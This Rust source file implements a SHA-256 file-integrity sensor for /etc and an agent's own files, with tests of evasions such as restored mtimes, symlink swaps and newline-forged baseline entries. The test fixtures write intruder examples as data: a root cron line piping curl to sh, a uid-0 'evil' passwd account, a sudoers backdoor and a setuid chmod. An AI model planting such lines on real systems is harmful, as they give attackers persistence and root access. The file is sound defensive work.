//! File integrity: SHA-256 of the files under the watched paths (`/etc`,
//! the agent's own binary and configuration by default) against a baseline
//! kept on disk beside the spool, so a change made while the agent was
//! stopped is found at its next start. Changes are reported once; the
//! baseline then follows them.
//!
//! An intruder hides an edit in three ways, each closed here. Restoring
//! the modification time after a same-size edit (`touch -r`): the cache
//! that spares rehashing is keyed on size, mtime, *ctime* and inode, and
//! ctime cannot be set from user space. Editing a file the agent cannot
//! read (`/etc/shadow`, sudoers when it runs unprivileged): such a file is
//! watched by its metadata (size, mode, owner, mtime, ctime, inode) instead
//! of being skipped. Swapping a symlink or a FIFO in after the walk looked:
//! files are opened with `O_NOFOLLOW | O_NONBLOCK` and judged by `fstat` of
//! what was opened, so the sensor never reads through a link nor hangs on
//! a pipe. Symlinks are watched by their target.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use tierwatch_protocol::{Event, Severity};

/// More changes than this in one check are one summary event.
const MAX_EVENTS: usize = 20;
/// The first line of the baseline file in its current format.
const HEADER: &str = "# tierwatch file baseline 2";

/// What is kept of a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub size: u64,
    /// Modification and status-change times, in nanoseconds.
    pub mtime_ns: i64,
    pub meta: Option<Meta>,
    /// `None`: the agent cannot read it (watched by metadata).
    pub sha256: Option<String>,
}

/// Metadata that says a file changed although its content cannot be read
/// (`None` in a baseline written before they were kept).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Meta {
    pub mode: u32,
    pub uid: u32,
    pub gid: u32,
    pub ctime_ns: i64,
    pub ino: u64,
}

impl Entry {
    fn of(m: &std::fs::Metadata, sha256: Option<String>) -> Entry {
        Entry {
            size: m.size(),
            // Saturating: a timestamp set past 2262 must not overflow.
            mtime_ns: m.mtime().saturating_mul(1_000_000_000).saturating_add(m.mtime_nsec()),
            meta: Some(Meta {
                mode: m.mode(),
                uid: m.uid(),
                gid: m.gid(),
                ctime_ns: m.ctime().saturating_mul(1_000_000_000).saturating_add(m.ctime_nsec()),
                ino: m.ino(),
            }),
            sha256,
        }
    }

    /// Same size, times and inode: the content is the one hashed before.
    fn unchanged_since(&self, before: &Entry) -> bool {
        self.size == before.size
            && self.mtime_ns == before.mtime_ns
            && matches!((self.meta, before.meta), (Some(a), Some(b)) if a.ctime_ns == b.ctime_ns && a.ino == b.ino)
    }

    /// What differs from `before`, as names: content when both were read,
    /// mode and owner always, and the rest of the metadata when the
    /// content of either could not be read.
    fn changed(&self, before: &Entry) -> Vec<&'static str> {
        let mut out = Vec::new();
        let blind = match (&self.sha256, &before.sha256) {
            (Some(a), Some(b)) => {
                if a != b {
                    out.push("content");
                }
                false
            }
            _ => true,
        };
        if let (Some(a), Some(b)) = (self.meta, before.meta) {
            if a.mode != b.mode {
                out.push("mode");
            }
            if (a.uid, a.gid) != (b.uid, b.gid) {
                out.push("owner");
            }
            if blind {
                if self.size != before.size {
                    out.push("size");
                }
                if self.mtime_ns != before.mtime_ns {
                    out.push("mtime");
                }
                if a.ctime_ns != b.ctime_ns {
                    out.push("ctime");
                }
                if a.ino != b.ino {
                    out.push("inode");
                }
            }
        }
        out
    }
}

/// One difference: kind, severity, path, the entry before and after, what changed.
type Change<'a> = (&'static str, Severity, PathBuf, Option<&'a Entry>, Option<&'a Entry>, Vec<&'static str>);

/// The baseline and where it lives.
#[derive(Debug)]
pub struct FileWatch {
    paths: Vec<PathBuf>,
    /// Files whose change is critical (the agent's own binary and configuration).
    critical: BTreeSet<PathBuf>,
    max_files: usize,
    store: PathBuf,
    baseline: Option<BTreeMap<PathBuf, Entry>>,
    /// Unreadable files at the last check, to say so when it changes.
    unreadable: usize,
}

/// What a regular file's open gave: its entry, or nothing (not a regular
/// file once opened, or gone).
fn read_file(path: &Path, lstat: &std::fs::Metadata) -> Option<Entry> {
    use nix::fcntl::OFlag;
    let flags = OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK | OFlag::O_NOCTTY;
    let mut f = match std::fs::OpenOptions::new().read(true).custom_flags(flags.bits()).open(path) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => return Some(Entry::of(lstat, None)),
        Err(_) => return None,
    };
    // Judged by what was opened, not by what the walk saw a moment before.
    let m = f.metadata().ok()?;
    if !m.is_file() {
        return None;
    }
    let mut ctx = ring::digest::Context::new(&ring::digest::SHA256);
    let mut buf = [0u8; 64 * 1024];
    loop {
        let n = f.read(&mut buf).ok()?;
        if n == 0 {
            break;
        }
        ctx.update(&buf[..n]);
    }
    Some(Entry::of(&m, Some(tierwatch_protocol::ids::hex(ctx.finish().as_ref()))))
}

/// A path on one line of the baseline: a name with a newline must not
/// forge a line of its own.
fn escape(p: &Path) -> String {
    p.display().to_string().replace('\\', "\\\\").replace('\n', "\\n").replace('\r', "\\r")
}

fn unescape(s: &str) -> PathBuf {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some(o) => out.push(o),
            None => out.push('\\'),
        }
    }
    PathBuf::from(out)
}

fn sha256_of(data: &[u8]) -> String {
    tierwatch_protocol::ids::hex(ring::digest::digest(&ring::digest::SHA256, data).as_ref())
}

impl FileWatch {
    /// Watches `paths` (files or directories, walked without following
    /// links), at most `max_files`; the baseline is kept in `store`.
    pub fn new(paths: Vec<PathBuf>, critical: Vec<PathBuf>, max_files: usize, store: PathBuf) -> Self {
        FileWatch { paths, critical: critical.into_iter().collect(), max_files, store, baseline: None, unreadable: 0 }
    }

    fn walk(&self, previous: &BTreeMap<PathBuf, Entry>) -> BTreeMap<PathBuf, Entry> {
        let mut out = BTreeMap::new();
        let mut stack: Vec<PathBuf> = self.paths.iter().rev().cloned().collect();
        while let Some(p) = stack.pop() {
            if out.len() >= self.max_files {
                tracing::warn!(
                    max_files = self.max_files,
                    "file integrity: more files than max_files; the rest is not watched"
                );
                break;
            }
            let Ok(meta) = std::fs::symlink_metadata(&p) else { continue };
            if meta.is_dir() {
                if let Ok(rd) = std::fs::read_dir(&p) {
                    // Never more names than can be watched (a directory of millions).
                    let room = self.max_files.saturating_sub(out.len()) + 1;
                    let mut children: Vec<PathBuf> = rd.flatten().take(room).map(|e| e.path()).collect();
                    children.sort();
                    stack.extend(children.into_iter().rev());
                }
            } else if meta.is_symlink() {
                // A link is its target: swapping /etc/resolv.conf's is a change.
                if let Ok(target) = std::fs::read_link(&p) {
                    let sha = sha256_of(format!("symlink:{}", target.display()).as_bytes());
                    out.insert(p, Entry::of(&meta, Some(sha)));
                }
            } else if meta.is_file() {
                let seen = Entry::of(&meta, None);
                let entry = match previous.get(&p) {
                    Some(e) if e.sha256.is_some() && seen.unchanged_since(e) => {
                        Entry { sha256: e.sha256.clone(), ..seen }
                    }
                    _ => match read_file(&p, &meta) {
                        Some(e) => e,
                        None => continue,
                    },
                };
                out.insert(p, entry);
            }
        }
        out
    }

    /// The baseline on disk and whether it is of the format before this one.
    fn load(&self) -> Option<(BTreeMap<PathBuf, Entry>, bool)> {
        let text = std::fs::read_to_string(&self.store).ok()?;
        let mut out = BTreeMap::new();
        let current = text.lines().next() == Some(HEADER);
        for line in text.lines().skip(usize::from(current)) {
            if current {
                let f: Vec<&str> = line.splitn(9, ' ').collect();
                let [sha, size, mode, uid, gid, mtime, ctime, ino, path] = f[..] else { continue };
                let n = |s: &str| s.parse::<i64>().ok();
                let (Some(size), Some(mode), Some(uid), Some(gid), Some(mtime_ns), Some(ctime_ns), Some(ino)) =
                    (n(size), n(mode), n(uid), n(gid), n(mtime), n(ctime), n(ino))
                else {
                    continue;
                };
                let meta = Meta { mode: mode as u32, uid: uid as u32, gid: gid as u32, ctime_ns, ino: ino as u64 };
                let sha256 = (sha != "-").then(|| sha.to_string());
                out.insert(unescape(path), Entry { size: size as u64, mtime_ns, meta: Some(meta), sha256 });
            } else {
                let mut f = line.splitn(4, ' ');
                let (Some(sha), Some(size), Some(mtime), Some(path)) = (f.next(), f.next(), f.next(), f.next()) else {
                    continue;
                };
                let (Ok(size), Ok(mtime)) = (size.parse(), mtime.parse::<i64>()) else { continue };
                let entry = Entry { size, mtime_ns: mtime * 1_000_000_000, meta: None, sha256: Some(sha.to_string()) };
                out.insert(PathBuf::from(path), entry);
            }
        }
        Some((out, !current))
    }

    fn save(&self, files: &BTreeMap<PathBuf, Entry>) {
        let mut text = format!("{HEADER}\n");
        for (p, e) in files {
            let m = e.meta.unwrap_or(Meta { mode: 0, uid: 0, gid: 0, ctime_ns: 0, ino: 0 });
            let sha = e.sha256.as_deref().unwrap_or("-");
            text.push_str(&format!(
                "{sha} {} {} {} {} {} {} {} {}\n",
                e.size,
                m.mode,
                m.uid,
                m.gid,
                e.mtime_ns,
                m.ctime_ns,
                m.ino,
                escape(p)
            ));
        }
        let tmp = self.store.with_extension("tmp");
        let saved = std::fs::write(&tmp, text).and_then(|_| std::fs::rename(&tmp, &self.store));
        if let Err(e) = saved {
            tracing::warn!(file = %self.store.display(), error = %e, "file integrity: baseline not saved");
        }
    }

    /// One check at `now_ms`: the changes since the baseline, which then follows them.
    pub fn check(&mut self, now_ms: i64) -> Vec<Event> {
        let (baseline, upgraded) = match self.baseline.take() {
            Some(b) => (Some(b), false),
            None => match self.load() {
                Some((b, legacy)) => (Some(b), legacy),
                None => (None, false),
            },
        };
        let current = self.walk(baseline.as_ref().unwrap_or(&BTreeMap::new()));
        let unreadable = current.values().filter(|e| e.sha256.is_none()).count();
        if unreadable != self.unreadable {
            self.unreadable = unreadable;
            tracing::info!(
                files = unreadable,
                "file integrity: files the agent cannot read are watched by their metadata (CAP_DAC_READ_SEARCH reads them)"
            );
        }
        let Some(old) = baseline else {
            // The first check ever: the baseline.
            self.save(&current);
            self.baseline = Some(current);
            return Vec::new();
        };
        let mut changes: Vec<Change<'_>> = Vec::new();
        for (p, e) in &current {
            match old.get(p) {
                // A baseline from before links and unreadable files were
                // kept did not list them: not news.
                None if upgraded && (e.sha256.is_none() || e.meta.is_some_and(|m| m.mode & 0o170000 == 0o120000)) => {}
                None => changes.push(("file_added", Severity::Info, p.clone(), None, Some(e), Vec::new())),
                Some(o) => {
                    let what = e.changed(o);
                    if !what.is_empty() {
                        changes.push(("file_changed", Severity::Warning, p.clone(), Some(o), Some(e), what));
                    }
                }
            }
        }
        for (p, o) in &old {
            if !current.contains_key(p) {
                changes.push(("file_removed", Severity::Warning, p.clone(), Some(o), None, Vec::new()));
            }
        }
        let mut out = Vec::new();
        for (kind, severity, path, before, after, what) in changes.iter().take(MAX_EVENTS) {
            let severity =
                if self.critical.contains(path) && *kind != "file_added" { Severity::Critical } else { *severity };
            let mut attributes = BTreeMap::from([("src".to_string(), path.display().to_string())]);
            if let Some(sha) = before.and_then(|b| b.sha256.clone()) {
                attributes.insert("previous_sha256".into(), sha);
            }
            if let Some(a) = after {
                if let Some(sha) = &a.sha256 {
                    attributes.insert("sha256".into(), sha.clone());
                } else {
                    attributes.insert("unreadable".into(), "true".into());
                }
                attributes.insert("size".into(), a.size.to_string());
                attributes.insert("mtime".into(), (a.mtime_ns.div_euclid(1_000_000_000)).to_string());
                if let Some(m) = a.meta {
                    attributes.insert("mode".into(), format!("{:o}", m.mode & 0o7777));
                    attributes.insert("owner".into(), format!("{}:{}", m.uid, m.gid));
                }
            }
            if let (Some(m), Some(b)) = (before.and_then(|b| b.meta), after) {
                if b.meta.is_some_and(|n| n.mode != m.mode) {
                    attributes.insert("previous_mode".into(), format!("{:o}", m.mode & 0o7777));
                }
                if b.meta.is_some_and(|n| (n.uid, n.gid) != (m.uid, m.gid)) {
                    attributes.insert("previous_owner".into(), format!("{}:{}", m.uid, m.gid));
                }
            }
            if !what.is_empty() {
                attributes.insert("changed".into(), what.join(","));
            }
            out.push(Event::new(kind, severity, now_ms, attributes));
        }
        if changes.len() > MAX_EVENTS {
            let rest: BTreeMap<String, String> = BTreeMap::from([
                ("src".to_string(), self.paths.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(",")),
                ("changes".to_string(), changes.len().to_string()),
                ("reported".to_string(), MAX_EVENTS.to_string()),
            ]);
            out.push(Event::new("files_changed", Severity::Warning, now_ms, rest));
        }
        // Saved whenever anything differs (a ctime touched by a chmod back
        // and forth too), so the cache stays warm and a restart sees it.
        if upgraded || current != old {
            self.save(&current);
        }
        self.baseline = Some(current);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(v: &[Event]) -> Vec<String> {
        v.iter()
            .map(|e| format!("{}:{}:{}", e.kind, e.severity, e.attributes["src"].rsplit('/').next().unwrap_or("")))
            .collect()
    }

    #[test]
    fn changes_are_found_once_and_survive_a_restart() {
        let dir = tempfile::tempdir().unwrap();
        let etc = dir.path().join("etc");
        std::fs::create_dir_all(etc.join("ssh")).unwrap();
        std::fs::write(etc.join("passwd"), "root:x:0:0\n").unwrap();
        std::fs::write(etc.join("ssh/sshd_config"), "PermitRootLogin no\n").unwrap();
        let agent = dir.path().join("agent.yaml");
        std::fs::write(&agent, "node: c1\n").unwrap();
        let store = dir.path().join("file-baseline");
        let watch = || FileWatch::new(vec![etc.clone(), agent.clone()], vec![agent.clone()], 1000, store.clone());
        let mut w = watch();
        assert!(w.check(0).is_empty(), "the baseline");
        std::fs::write(etc.join("passwd"), "root:x:0:0\nevil:x:0:0\n").unwrap();
        std::fs::write(etc.join("cron.d"), "* * * * * root curl x | sh\n").unwrap();
        std::fs::remove_file(etc.join("ssh/sshd_config")).unwrap();
        let got = kinds(&w.check(1));
        assert_eq!(got, ["file_added:1:cron.d", "file_changed:2:passwd", "file_removed:2:sshd_config"]);
        assert!(w.check(2).is_empty(), "reported once");
        // Changed while the agent was stopped: found at the next start.
        drop(w);
        std::fs::write(&agent, "node: c1\nsensors: null\n").unwrap();
        let mut w = watch();
        assert_eq!(kinds(&w.check(3)), ["file_changed:3:agent.yaml"], "the agent's own config is critical");
    }

    #[test]
    fn a_same_size_edit_with_the_mtime_restored_is_found() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("etc")).unwrap();
        let f = dir.path().join("etc/sudoers");
        std::fs::write(&f, "root ALL=(ALL) ALL\n").unwrap();
        let mtime = std::fs::metadata(&f).unwrap().modified().unwrap();
        let mut w = FileWatch::new(vec![dir.path().join("etc")], vec![], 100, dir.path().join("b"));
        assert!(w.check(0).is_empty());
        std::fs::write(&f, "evil ALL=(ALL) ALL\n").unwrap();
        std::fs::File::options().write(true).open(&f).unwrap().set_modified(mtime).unwrap();
        let got = w.check(1);
        assert_eq!(kinds(&got), ["file_changed:2:sudoers"]);
        assert_eq!(got[0].attributes["changed"], "content");
        // A chmod is a change too, with what it was.
        std::fs::set_permissions(&f, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
        let got = w.check(2);
        assert_eq!(got[0].attributes["changed"], "mode");
        assert_eq!((got[0].attributes["mode"].as_str(), got[0].attributes["previous_mode"].as_str()), ("4755", "644"));
    }

    #[test]
    fn links_fifos_and_swaps_are_never_followed_nor_waited_on() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().join("etc");
        std::fs::create_dir(&d).unwrap();
        std::fs::write(d.join("hosts"), "127.0.0.1 localhost\n").unwrap();
        std::os::unix::fs::symlink("/run/resolv.conf", d.join("resolv.conf")).unwrap();
        nix::unistd::mkfifo(&d.join("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        let mut w = FileWatch::new(vec![d.clone()], vec![], 100, dir.path().join("b"));
        assert!(w.check(0).is_empty());
        // The link's target is what it is.
        std::fs::remove_file(d.join("resolv.conf")).unwrap();
        std::os::unix::fs::symlink("/tmp/evil-resolv.conf", d.join("resolv.conf")).unwrap();
        assert_eq!(kinds(&w.check(1)), ["file_changed:2:resolv.conf"]);
        // Swapped in after the walk looked: the open neither follows nor blocks.
        let regular = std::fs::symlink_metadata(d.join("hosts")).unwrap();
        assert_eq!(read_file(&d.join("pipe"), &regular), None, "a FIFO is not read (and does not hang)");
        assert_eq!(read_file(&d.join("resolv.conf"), &regular), None, "a link is not followed");
    }

    #[test]
    fn unreadable_files_are_watched_by_their_metadata() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().join("etc");
        std::fs::create_dir(&d).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
        let shadow = d.join("shadow");
        std::fs::write(&shadow, "root:$y$j9T$abc:19000:0:99999:7:::\n").unwrap();
        std::fs::set_permissions(&shadow, std::fs::Permissions::from_mode(0o600)).unwrap();
        let store = dir.path().join("b");
        // As root, a thread whose filesystem uid is nobody's: it loses the
        // capabilities that read anything, as an unprivileged agent has none.
        let check = move |w: FileWatch, t: i64| {
            std::thread::spawn(move || {
                let mut w = w;
                if nix::unistd::getuid().is_root() {
                    nix::unistd::setfsuid(nix::unistd::Uid::from_raw(65534));
                    nix::unistd::setfsgid(nix::unistd::Gid::from_raw(65534));
                }
                let events = w.check(t);
                (w, events)
            })
            .join()
            .unwrap()
        };
        let w = FileWatch::new(vec![d.clone()], vec![], 100, store.clone());
        let (w, events) = check(w, 0);
        assert!(events.is_empty());
        let base = w.baseline.as_ref().unwrap();
        assert_eq!(base[&shadow].sha256, None, "in the baseline, unread: {base:?}");
        // Same size, same mtime put back: the ctime tells.
        let mtime = std::fs::metadata(&shadow).unwrap().modified().unwrap();
        std::fs::write(&shadow, "evil:$y$j9T$abc:19000:0:99999:7:::\n").unwrap();
        std::fs::File::options().write(true).open(&shadow).unwrap().set_modified(mtime).unwrap();
        let (_, events) = check(w, 1);
        assert_eq!(kinds(&events), ["file_changed:2:shadow"]);
        assert_eq!(events[0].attributes["unreadable"], "true");
        assert_eq!(events[0].attributes["changed"], "ctime");
    }

    #[test]
    fn a_name_with_a_newline_forges_no_baseline_line() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().join("etc");
        std::fs::create_dir(&d).unwrap();
        std::fs::write(d.join("passwd"), "root:x:0:0\n").unwrap();
        // A directory whose name ends a line and starts a forged one; the path
        // under it spells the real file's absolute path.
        // It names the hash of the content the intruder will write, with the file's real mode and owner.
        let m = std::fs::metadata(d.join("passwd")).unwrap();
        let sha = sha256_of(b"root:x:0:0\nevil:x:0:0\n");
        let evil = d.join(format!("x\n{sha} 22 {} {} {} 0 0 1 ", m.mode(), m.uid(), m.gid()));
        let forged = evil.join(d.join("passwd").strip_prefix("/").unwrap());
        std::fs::create_dir_all(forged.parent().unwrap()).unwrap();
        std::fs::write(&forged, "x").unwrap();
        let store = dir.path().join("b");
        let mut w = FileWatch::new(vec![d.clone()], vec![], 100, store.clone());
        assert!(w.check(0).is_empty());
        std::fs::write(d.join("passwd"), "root:x:0:0\nevil:x:0:0\n").unwrap();
        // A restart reads the baseline back: the forged line is part of a name, not an entry.
        let mut w = FileWatch::new(vec![d.clone()], vec![], 100, store);
        let got = kinds(&w.check(1));
        assert_eq!(got, ["file_changed:2:passwd"]);
    }

    #[test]
    fn a_baseline_of_the_format_before_is_no_storm() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().join("etc");
        std::fs::create_dir(&d).unwrap();
        std::fs::write(d.join("passwd"), "root:x:0:0\n").unwrap();
        std::os::unix::fs::symlink("passwd", d.join("link")).unwrap();
        let sha = sha256_of(b"root:x:0:0\n");
        let m = std::fs::metadata(d.join("passwd")).unwrap();
        let store = dir.path().join("b");
        std::fs::write(&store, format!("{sha} {} {} {}\n", m.len(), m.mtime(), d.join("passwd").display())).unwrap();
        let mut w = FileWatch::new(vec![d.clone()], vec![], 100, store.clone());
        assert!(w.check(0).is_empty(), "links were not kept before: not news");
        assert!(std::fs::read_to_string(&store).unwrap().starts_with(HEADER), "rewritten in the new format");
        std::fs::write(d.join("passwd"), "root:x:0:0\nevil:x:0:0\n").unwrap();
        assert_eq!(kinds(&w.check(1)), ["file_changed:2:passwd"]);
    }

    #[test]
    fn many_changes_are_one_summary() {
        let dir = tempfile::tempdir().unwrap();
        let mut w = FileWatch::new(vec![dir.path().join("d")], vec![], 1000, dir.path().join("b"));
        std::fs::create_dir_all(dir.path().join("d")).unwrap();
        w.check(0);
        for i in 0..50 {
            std::fs::write(dir.path().join(format!("d/{i}")), "x").unwrap();
        }
        let got = w.check(1);
        assert_eq!(got.len(), MAX_EVENTS + 1);
        assert_eq!(got.last().unwrap().attributes["changes"], "50");
    }
}
